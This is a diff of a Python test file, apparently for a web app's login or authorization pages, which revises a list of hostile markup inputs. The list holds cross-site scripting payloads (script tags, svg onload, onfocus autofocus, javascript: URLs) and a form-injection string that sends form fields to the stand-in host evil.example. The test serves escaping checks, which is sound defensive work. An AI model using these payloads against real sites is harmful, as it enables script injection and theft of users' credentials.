@@ -30,12 +30,10 @@ from tests.support.inprocess import InProcess
 from tests.support.running import PASSWORD
 from tests.support.selection import cases
 
-MARKUP = [
+MARKUP = [  # as long as a name may be
     '"><script>alert(1)</script></title><svg/onload=alert(1)>',
-    "' onfocus='alert(1)' autofocus='",
-    "</form><form action=https://evil.example>",
-    "<!--fields--><!--scopes-->{username}{next}{app}&lt;",
-    "javascript:alert(1)",
+    "javascript:alert(1)//' onfocus='alert(1)' autofocus='",
+    "</form><form action=https://evil.example><!--fields-->{next}",
 ]
 
 
